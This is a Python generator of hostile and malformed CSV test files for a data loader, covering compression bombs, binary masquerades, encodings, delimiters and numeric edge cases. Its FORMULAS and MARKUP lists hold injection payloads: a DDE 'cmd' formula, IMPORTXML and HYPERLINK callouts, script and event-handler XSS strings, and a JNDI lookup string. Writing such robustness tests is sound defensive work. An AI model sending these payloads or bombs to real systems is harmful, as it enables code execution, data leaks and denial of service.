"""A generator of hostile and odd CSV files (issue 19), written to a directory, never checked in.

``corpus()`` lists every case as a :class:`Case`: a file name, a function making its bytes, and
what the loader must do with it (``"load"``, ``"reject"`` or ``"either"``) plus an optional
``check`` of the exact outcome (the values read, the words of the message). ``write(dir)``
writes them all. Classes: binary and compressed files (gzip bombs), encodings, delimiters,
decimal commas, number spellings and extremes, constant and duplicate columns, 1 to 100 000
columns, ragged rows and trailing delimiters, header-only files, formula strings, markup in
headers and file names, line endings, quotes, big files (1e6 rows, 50 MB) and seeded random
mutations of a valid file.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

Expect = str  # "load" | "reject" | "either"


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    expect: Expect = "either"
    check: Callable[[object], None] | None = None  # called with the CsvLoad or the ValueError
    big: bool = False  # > 5 MB: no 2 s bound


def _base(n: int = 40, d: int = 3, seed: int = 0) -> str:
    rng = np.random.default_rng(seed)
    X = rng.normal(size=(n, d)).round(4)
    head = ",".join(f"f{j}" for j in range(d))
    return head + "\n" + "\n".join(",".join(f"{v:g}" for v in row) for row in X) + "\n"


BASE = _base()


def _values(load, expected) -> None:
    np.testing.assert_allclose(load.dataset.X, np.asarray(expected, dtype=float))


def _msg(*words: str) -> Callable[[object], None]:
    def check(out) -> None:
        text = str(out) if isinstance(out, Exception) else " ".join(out.messages)
        for w in words:
            assert w.lower() in text.lower(), f"{w!r} not in {text!r}"
    return check


def _names(*names: str) -> Callable[[object], None]:
    def check(out) -> None:
        assert out.dataset.feature_names == names, out.dataset.feature_names
    return check


def _gzip_bomb() -> bytes:
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", compresslevel=9) as f:
        chunk = b"0" * (1 << 20)
        for _ in range(64):  # 64 MB of zeros → ~64 KB
            f.write(chunk)
    return buf.getvalue()


def _zip(name: str, payload: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(name, payload)
    return buf.getvalue()


def _binary_cases() -> list[Case]:
    cases = [Case(f"random_{s}.csv", lambda s=s: np.random.default_rng(s).bytes(2000 + 500 * s), "reject")
             for s in range(12)]
    cases += [
        Case("png.csv", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "reject", _msg("PNG")),
        Case("elf.csv", lambda: b"\x7fELF\x02\x01\x01" + bytes(300), "reject", _msg("executable")),
        Case("pdf.csv", lambda: b"%PDF-1.4\n1 0 obj\n<< >>\nendobj\n", "reject", _msg("PDF")),
        Case("xlsx.csv", lambda: _zip("xl/workbook.xml", b"<workbook/>"), "reject", _msg("ZIP")),
        Case("sqlite.csv", lambda: b"SQLite format 3\x00" + bytes(100), "reject"),
        Case("nul_in_text.csv", lambda: b"a,b\n1,2\n3\x00,4\n", "reject", _msg("binary")),
        Case("escape_chars.csv", lambda: b"a,b\n1,2\n\x1b[31m3,4\n\x07\x08,5\n", "reject", _msg("binary")),
        Case("gzip_bomb.csv", _gzip_bomb, "reject", _msg("gzip", "not opened or decompressed")),
        Case("gzip_csv.csv", lambda: gzip.compress(BASE.encode()), "reject", _msg("gzip")),
        Case("gzip_nested.csv", lambda: gzip.compress(gzip.compress(b"0" * (1 << 22))), "reject"),
        Case("bz2_bomb.csv", lambda: bz2.compress(b"0" * (1 << 23)), "reject", _msg("bzip2")),
        Case("xz_bomb.csv", lambda: lzma.compress(b"0" * (1 << 23)), "reject", _msg("xz")),
        Case("zip_bomb.csv", lambda: _zip("a.csv", b"1,2\n" * (1 << 21)), "reject", _msg("ZIP")),
        Case("zstd_magic.csv", lambda: b"\x28\xb5\x2f\xfd" + bytes(64), "reject"),
    ]
    return cases


def _encoding_cases() -> list[Case]:
    text = "tempé,größe,x\n1.5,2,3\n4,5,6\n7,8,9\n"
    expected = [[1.5, 2, 3], [4, 5, 6], [7, 8, 9]]
    cases = []
    for enc, bom in (("utf-8", b""), ("utf-8", b"\xef\xbb\xbf"), ("utf-16", b""), ("utf-16-le", b""),
                     ("utf-16-be", b""), ("utf-16-le", b"\xff\xfe"), ("utf-16-be", b"\xfe\xff"),
                     ("utf-32", b""), ("latin-1", b""), ("cp1252", b"")):
        for crlf in (False, True):
            t = text.replace("\n", "\r\n") if crlf else text
            name = f"enc_{enc}{'_bom' if bom else ''}{'_crlf' if crlf else ''}.csv"

            def check(out, crlf=crlf):
                _values(out, expected)
                assert out.dataset.feature_names == ("tempé", "größe", "x")
            cases.append(Case(name, lambda t=t, enc=enc, bom=bom: bom + t.encode(enc), "load", check))
    cases.append(Case("enc_cp1252_euro.csv", lambda: "€,b\n1,2\n3,4\n".encode("cp1252"), "load",
                      _names("€", "b")))
    cases.append(Case("enc_bad_utf16.csv", lambda: b"\xff\xfe" + b"a\x00,\x00" + b"\x00\xd8", "either"))
    cases.append(Case("enc_mixed.csv", lambda: b"a,b\n1,2\n" + "é,3\n4,5\n6,7\n".encode("latin-1"),
                      "load"))
    return cases


def _delimiter_cases() -> list[Case]:
    rows = [[1.5, 2, 3], [4, 5, 6], [7, 8, 9.25]]
    cases = []
    for sep, tag in ((",", "comma"), (";", "semicolon"), ("\t", "tab"), ("|", "pipe")):
        body = "\n".join(sep.join(f"{v:g}" for v in r) for r in rows) + "\n"
        head = sep.join(("a", "b", "c")) + "\n"
        cases.append(Case(f"delim_{tag}.csv", lambda b=head + body: b.encode(), "load",
                          lambda o: _values(o, rows)))
        cases.append(Case(f"delim_{tag}_noheader.csv", lambda b=body: b.encode(), "load",
                          lambda o: _values(o, rows)))
        quoted = sep.join(('"a"', '"b, or not"', '"c"')) + "\n" + body
        cases.append(Case(f"delim_{tag}_quoted.csv", lambda b=quoted: b.encode(), "load",
                          lambda o: _values(o, rows)))
        cases.append(Case(f"delim_{tag}_excel_sep.csv", lambda b=f"sep={sep}\n" + head + body: b.encode(),
                          "load", lambda o: _values(o, rows)))
        spaced = head + "\n".join((sep + " ").join(f"{v:g}" for v in r) for r in rows) + "\n"
        cases.append(Case(f"delim_{tag}_spaces.csv", lambda b=spaced: b.encode(), "load",
                          lambda o: _values(o, rows)))
    return cases


def _decimal_comma_cases() -> list[Case]:
    expected = [[1.5, 2.25], [3.0, -4.5], [0.125, 1e3]]
    return [
        Case("dec_semicolon.csv", lambda: b"a;b\n1,5;2,25\n3;-4,5\n0,125;1000\n", "load",
             lambda o: (_values(o, expected), _msg("decimal commas")(o))),
        Case("dec_tab.csv", lambda: b"a\tb\n1,5\t2,25\n3\t-4,5\n0,125\t1000\n", "load",
             lambda o: _values(o, expected)),
        Case("dec_semicolon_exp.csv", lambda: b"a;b\n1,5e2;2\n3;4\n", "load",
             lambda o: _values(o, [[150, 2], [3, 4]])),
        Case("dec_semicolon_crlf_bom.csv", lambda: b"\xef\xbb\xbfa;b\r\n1,5;2,25\r\n3;-4,5\r\n0,125;1000\r\n",
             "load", lambda o: _values(o, expected)),
        Case("dec_comma_quoted.csv", lambda: b'a,b\n"1,5",1\n"2,5",2\n"3,5",3\n', "load",
             lambda o: (_names("b")(o), _msg("comma", "ambiguous")(o))),
        Case("dec_comma_quoted_only.csv", lambda: b'a\n"1,5"\n"2,5"\n', "reject", _msg("ambiguous")),
        Case("dec_comma_unquoted.csv", lambda: b"a,b\n1,5,2,5\n3,5,4,5\n", "reject",
             _msg("Data row 1 has 4 fields", "decimal comma")),
        Case("dec_thousands_dot.csv", lambda: b"a;b\n1.234,5;2\n3;4\n5;6\n", "either"),
        Case("dec_mixed_marks.csv", lambda: b"a;b\n1,5;2.5\n3,25;4\n5;6,5\n", "load",
             lambda o: _values(o, [[1.5, 2.5], [3.25, 4], [5, 6.5]])),
        Case("dec_excel_sep.csv", lambda: b"sep=;\na;b\n1,5;2\n3;4\n", "load",
             lambda o: _values(o, [[1.5, 2], [3, 4]])),
    ]


def _number_cases() -> list[Case]:
    spellings = ["inf", "-inf", "Infinity", "-Infinity", "INF", "NaN", "nan", "NA", "N/A", "null",
                 "NULL", "None", "", " ", "?", "-", "1e309", "-1e309", "1e400", "#DIV/0!"]
    cases = []
    for i, s in enumerate(spellings):
        raw = f"a,b\n1,2\n3,{s}\n5,6\n7,8\n9,10\n11,12\n13,14\n15,16\n17,18\n19,20\n".encode()

        def check(o):
            assert o.dataset.n == 9 and o.dropped_rows == 1, (o.dataset.n, o.dropped_rows)
        cases.append(Case(f"num_spelling_{i}.csv", lambda r=raw: r, "load", check))
    extremes = {"1e308": 1e308, "-1.7976931348623157e308": -1.7976931348623157e308, "1e200": 1e200,
                "1e154": 1e154, "1e101": 1e101}
    for i, s in enumerate(extremes):
        raw = f"a,b\n1,2\n3,{s}\n5,6\n".encode()
        cases.append(Case(f"num_huge_{i}.csv", lambda r=raw: r, "load",
                          lambda o: (_values(o, [[1, 2], [5, 6]]), _msg("beyond", "rescale")(o))))
    for i, (s, v) in enumerate({"1e-320": 1e-320, "1e100": 1e100, "-0": 0.0, "+5": 5.0, " 7 ": 7.0,
                                "0.1e1": 1.0, "1E3": 1e3, "1e-300": 1e-300}.items()):
        raw = f"a,b\n1,{s}\n3,4\n".encode()
        cases.append(Case(f"num_ok_{i}.csv", lambda r=raw: r, "load",
                          lambda o, v=v: _values(o, [[1, v], [3, 4]])))
    cases.append(Case("num_hex.csv", lambda: b"a,b\n0x10,1\n0x20,2\n", "load", _names("b")))
    cases.append(Case("num_underscore.csv", lambda: b"a,b\n1_000,1\n2_000,2\n", "either"))
    cases.append(Case("num_percent.csv", lambda: b"a,b\n10%,1\n20%,2\n", "load", _names("b")))
    cases.append(Case("num_bool.csv", lambda: b"a,b\nTrue,1\nFalse,2\n", "load", _names("b")))
    cases.append(Case("num_all_nan.csv", lambda: b"a,b\nnan,nan\nnan,nan\n", "reject"))
    cases.append(Case("num_all_inf.csv", lambda: b"a,b\ninf,inf\n-inf,inf\n1,inf\n", "either"))
    cases.append(Case("num_bigint.csv", lambda: b"a,b\n99999999999999999999999,1\n2,3\n4,5\n", "load"))
    return cases


def _column_cases() -> list[Case]:
    return [
        Case("col_constant.csv", lambda: b"a,b\n1,5\n2,5\n3,5\n", "load", _msg("Constant", "'b'")),
        Case("col_all_constant.csv", lambda: b"a,b\n1,1\n1,1\n1,1\n", "load"),
        Case("col_dup_exact.csv", lambda: b"a,a\n1,2\n3,4\n", "load", _names("a", "a (2)")),
        Case("col_dup_case.csv", lambda: b"A,a\n1,2\n3,4\n", "load", _names("A", "a")),
        Case("col_dup_case3.csv", lambda: b"X,x,X\n1,2,3\n4,5,6\n", "load", _names("X", "x", "X (2)")),
        Case("col_dup_space.csv", lambda: b"a, a,a \n1,2,3\n4,5,6\n", "load", _names("a", "a (2)", "a (3)")),
        Case("col_dup_collide.csv", lambda: b"a,a,a (2)\n1,2,3\n4,5,6\n", "load",
             lambda o: (len(set(o.dataset.feature_names)) == 3) or (_ for _ in ()).throw(AssertionError())),
        Case("col_dup_triple.csv", lambda: b"v,v,v,v\n1,2,3,4\n5,6,7,8\n", "load"),
        Case("col_blank_names.csv", lambda: b",,\n1,2,3\n4,5,6\n", "load",
             _names("column 1", "column 2", "column 3")),
        Case("col_dup_pandas_style.csv", lambda: b"a,a.1,a\n1,2,3\n4,5,6\n", "load"),
        Case("col_same_values.csv", lambda: b"a,b\n1,1\n2,2\n3,3\n", "load"),
        Case("col_one.csv", lambda: b"a\n1\n2\n3\n", "load"),
        Case("col_long_name.csv", lambda: ("n" * 5000 + ",b\n1,2\n3,4\n").encode(), "load",
             lambda o: len(o.dataset.feature_names[0]) <= 80 or (_ for _ in ()).throw(AssertionError())),
    ]


def _width_cases() -> list[Case]:
    cases = []
    for d in (1, 2, 10, 100, 1000, 1999, 2000, 2001, 5000, 100_000):
        head = ",".join(f"c{j}" for j in range(d)) + "\n"
        row = ",".join("1.5" for _ in range(d)) + "\n"
        expect = "load" if d <= 2000 else "reject"
        check = _msg("columns", "2,000") if d > 2000 else None
        cases.append(Case(f"width_{d}.csv", lambda h=head, r=row: (h + r + r.replace("1.5", "2")).encode(),
                          expect, check))
        cases.append(Case(f"width_{d}_header_only.csv", lambda h=head: h.encode(), "reject",
                          _msg("columns") if d > 2000 else _msg("no data rows")))
    return cases


def _ragged_cases() -> list[Case]:
    return [
        Case("rag_extra_first.csv", lambda: b"a,b\n1,10,100\n2,20\n3,30\n", "reject",
             _msg("Data row 1 has 3 fields but the header has 2")),
        Case("rag_extra_middle.csv", lambda: b"a,b\n1,10\n2,20,200\n3,30\n", "reject", _msg("Data row 2")),
        Case("rag_extra_last.csv", lambda: b"a,b\n1,10\n2,20\n3,30,300\n", "reject", _msg("Data row 3")),
        Case("rag_extra_quoted.csv", lambda: b'a,b\n"1",10,100\n2,20\n', "reject", _msg("Data row 1")),
        Case("rag_missing.csv", lambda: b"a,b\n1,10\n2\n3,30\n", "load",
             lambda o: (_values(o, [[1, 10], [3, 30]]), _msg("fewer fields")(o))),
        Case("rag_missing_unused.csv", lambda: b"a,b,c\n1,10,x\n2,20\n3,30,y\n", "load",
             lambda o: _values(o, [[1, 10], [2, 20], [3, 30]])),
        Case("rag_trailing_empty_col.csv", lambda: b"a,b,\n1,2,\n3,4,\n5,6,\n", "load",
             lambda o: (_values(o, [[1, 2], [3, 4], [5, 6]]), _msg("empty column")(o))),
        Case("rag_trailing_rows_only.csv", lambda: b"a,b\n1,2,\n3,4,\n5,6,\n", "load",
             lambda o: _values(o, [[1, 2], [3, 4], [5, 6]])),
        Case("rag_trailing_crlf.csv", lambda: b"a,b\r\n1,2,\r\n3,4,\r\n", "load",
             lambda o: _values(o, [[1, 2], [3, 4]])),
        Case("rag_trailing_header_only.csv", lambda: b"a,b,\n1,2\n3,4\n", "load",
             lambda o: _values(o, [[1, 2], [3, 4]])),
        Case("rag_two_trailing.csv", lambda: b"a,b\n1,2,,\n3,4,,\n", "reject", _msg("Data row 1")),
        Case("rag_semicolon_extra.csv", lambda: b"a;b\n1;2;3\n4;5\n", "either"),
        Case("rag_empty_lines.csv", lambda: b"a,b\n\n1,2\n\n\n3,4\n\n", "load",
             lambda o: _values(o, [[1, 2], [3, 4]])),
    ]


def _header_only_cases() -> list[Case]:
    return [
        Case("hdr_small.csv", lambda: b"a,b\n", "reject", _msg("no data rows")),
        Case("hdr_nonewline.csv", lambda: b"a,b", "reject", _msg("no data rows")),
        Case("hdr_4mb_wide.csv", lambda: (",".join(f"col{j}" for j in range(500_000)) + "\n").encode(),
             "reject", _msg("columns")),
        Case("hdr_4mb_one_name.csv", lambda: ("h" * (4 << 20) + "\n").encode(), "reject",
             _msg("no data rows")),
        Case("hdr_4mb_blank_lines.csv", lambda: b"a,b" + b"\n" * (4 << 20), "reject", _msg("no data rows")),
        Case("hdr_4mb_2000cols_names.csv", lambda: (",".join("n" * 2000 + str(j) for j in range(1999)) + "\n")
             .encode(), "reject", _msg("no data rows")),
    ]


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", '=HYPERLINK("http://127.0.0.1:9/x","click")',
            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "=IMPORTXML(CONCAT(\"http://x/\",A1),\"//a\")", "-"]


def _formula_cases() -> list[Case]:
    cases = []
    for i, f in enumerate(FORMULAS):
        q = '"' + f.replace('"', '""') + '"'
        cases.append(Case(f"formula_header_{i}.csv", lambda q=q: f"{q},b\n1,2\n3,4\n".encode(), "load"))
        cases.append(Case(f"formula_cell_{i}.csv", lambda q=q: f"a,b\n{q},2\n{q},4\n".encode(), "load",
                          _names("b")))
    return cases


MARKUP = [
    '<img src="http://127.0.0.1:9/beacon.png">', "<script>alert(1)</script>", "**bold** _it_",
    "[link](http://127.0.0.1:9/l)", "![img](http://127.0.0.1:9/i.png)", "$\\frac{1}{0}$",
    ":red[red] :material/warning:", "<b onmouseover=alert(1)>x</b>", "</div><h1>big</h1>",
    "\u202eevil\u202c", "zero\u200bwidth", "emoji 😀", "`code`", "# heading", "a\\nb",
    "<style>*{display:none}</style>", "{{7*7}}", "${jndi:ldap://x}", "&lt;amp&gt;", "|pipe|table|",
]


def _markup_cases() -> list[Case]:
    cases = []
    for i, m in enumerate(MARKUP):
        q = '"' + m.replace('"', '""') + '"'
        cases.append(Case(f"markup_header_{i}.csv", lambda q=q: f"{q},b\n1,2\n3,4\n".encode(), "load"))
    cases.append(Case("markup_newline_in_header.csv", lambda: b'"a\nb",c\n1,2\n3,4\n', "either"))
    return cases


FILE_NAMES = [
    '<img src="http://127.0.0.1:9/f.png">.csv', "**bold**.csv", "[x](http://127.0.0.1:9).csv",
    "<script>alert(1)<script>.csv", ":material/delete: name.csv", "$x$.csv", "=1+1.csv",
    "name with spaces & ampersand.csv", "ünïcödé.csv", "..csv",
]


def _filename_cases() -> list[Case]:
    def safe(n: str) -> str:
        return n.replace("/", "_")
    def named(stem: str) -> Callable[[object], None]:
        def check(out) -> None:
            assert out.dataset.name == stem, out.dataset.name
        return check
    return [Case(safe(n), lambda: BASE.encode(), "load", named(Path(safe(n)).stem)) for n in FILE_NAMES]


def _line_ending_cases() -> list[Case]:
    expected = [[1, 2], [3, 4], [5, 6]]
    return [Case(name, lambda raw=raw: raw, "load", lambda o: _values(o, expected)) for name, raw in (
        ("eol_crlf.csv", b"a,b\r\n1,2\r\n3,4\r\n5,6\r\n"),
        ("eol_cr.csv", b"a,b\r1,2\r3,4\r5,6\r"),
        ("eol_mixed.csv", b"a,b\r\n1,2\n3,4\r\n5,6\n"),
        ("eol_none_final.csv", b"a,b\n1,2\n3,4\n5,6"),
        ("eol_leading_blank.csv", b"\n\n\na,b\n1,2\n3,4\n5,6\n"),
        ("eol_bom_crlf.csv", b"\xef\xbb\xbfa,b\r\n1,2\r\n3,4\r\n5,6\r\n"),
        ("eol_ctrl_z.csv", b"a,b\n1,2\n3,4\n5,6\n\x1a"),
        ("eol_trailing_spaces.csv", b"a,b  \n1,2  \n3,4\n5,6 \n"),
    )]


def _quote_cases() -> list[Case]:
    return [
        Case("q_unbalanced.csv", lambda: b'a,b\n"1,2\n3,4\n5,6\n', "either"),
        Case("q_embedded.csv", lambda: b'a,b\n"1",2\n"3",4\n', "load",
             lambda o: _values(o, [[1, 2], [3, 4]])),
        Case("q_newline_cell.csv", lambda: b'a,b,c\n1,2,"x\ny"\n3,4,z\n', "load",
             lambda o: _values(o, [[1, 2], [3, 4]])),
        Case("q_doubled.csv", lambda: b'a,b,c\n1,2,"say ""hi"""\n3,4,z\n', "load"),
        Case("q_single_quotes.csv", lambda: b"a,b\n'1',2\n'3',4\n", "load", _names("b")),
        Case("q_only_quotes.csv", lambda: b'""\n""\n', "reject"),
        Case("q_many.csv", lambda: b'"' * 10000, "either"),
        Case("q_delims_only.csv", lambda: b",,,,\n,,,,\n,,,,\n", "reject"),
    ]


def _big_cases() -> list[Case]:
    def rows(n: int) -> bytes:
        i = np.arange(n)
        return b"a,b\n" + "\n".join(np.char.add(np.char.add(i.astype(str), ","), (i % 97).astype(str)))\
            .encode() + b"\n"
    return [
        Case("big_5mb_rows.csv", lambda: rows(450_000)[: 5 * 1024 * 1024 - 100].rsplit(b"\n", 1)[0] + b"\n",
             "load", lambda o: o.truncated or (_ for _ in ()).throw(AssertionError())),
        Case("big_5mb_2000cols.csv", lambda: (",".join(f"c{j}" for j in range(2000)) + "\n"
                                              + ("\n".join(",".join(["0.123"] * 2000) for _ in range(400)))
                                              + "\n").encode(), "load"),
        Case("big_5mb_one_col.csv", lambda: b"a\n" + b"1.25\n" * ((1 << 20) - 10), "load"),
        Case("big_1e6_rows.csv", lambda: rows(1_000_000), "load",
             lambda o: (o.truncated and o.dataset.n == 200_000) or (_ for _ in ()).throw(AssertionError()),
             big=True),
        Case("big_50mb.csv", lambda: b"a,b\n" + b"1.000000,2.000000\n" * ((50 * 1024 * 1024 - 4) // 18),
             "load", big=True),
        Case("big_over_50mb.csv", lambda: b"a,b\n" + b"1.000000,2.000000\n" * (50 * 1024 * 1024 // 18 + 1),
             "reject", _msg("limit"), big=True),
    ]


def _mutation_cases(n: int = 100) -> list[Case]:
    """Seeded random damage to a valid file: byte flips, inserted delimiters/quotes/NULs, cuts."""
    def mutate(seed: int) -> bytes:
        rng = np.random.default_rng(1000 + seed)
        raw = bytearray(_base(30, 1 + seed % 5, seed).encode())
        for _ in range(1 + seed % 8):
            op = rng.integers(6)
            pos = int(rng.integers(max(len(raw), 1)))
            if op == 0 and raw:
                raw[pos] = int(rng.integers(256))
            elif op in (0, 1):
                raw[pos:pos] = bytes([rng.choice([44, 59, 9, 34, 10, 13, 124])])
            elif op == 2:
                del raw[pos:pos + int(rng.integers(1, 20))]
            elif op == 3:
                raw[pos:pos] = rng.choice([b"inf", b"nan", b"1e999", b"=1+1", b'"', b"\xc3", b"\xff\xfe",
                                           b",,"])
            elif op == 4:
                raw = raw[:pos]
            else:
                raw[pos:pos] = raw[max(0, pos - 30):pos]
        return bytes(raw) or b"\n"
    return [Case(f"mut_{s:03d}.csv", lambda s=s: mutate(s), "either") for s in range(n)]


def corpus() -> list[Case]:
    cases = (_binary_cases() + _encoding_cases() + _delimiter_cases() + _decimal_comma_cases()
             + _number_cases() + _column_cases() + _width_cases() + _ragged_cases() + _header_only_cases()
             + _formula_cases() + _markup_cases() + _filename_cases() + _line_ending_cases()
             + _quote_cases() + _big_cases() + _mutation_cases())
    names = [c.name for c in cases]
    assert len(set(names)) == len(names), "duplicate case names"
    return cases


def write(directory: Path, cases: list[Case] | None = None) -> dict[str, Path]:
    """Write every case into ``directory``; returns name → path."""
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in cases if cases is not None else corpus():
        path = directory / case.name
        path.write_bytes(case.make())
        out[case.name] = path
    return out


if __name__ == "__main__":  # python tests/unit/hostile_corpus.py DIR
    import sys

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile_corpus")
    print(f"{len(write(target))} files in {target}")
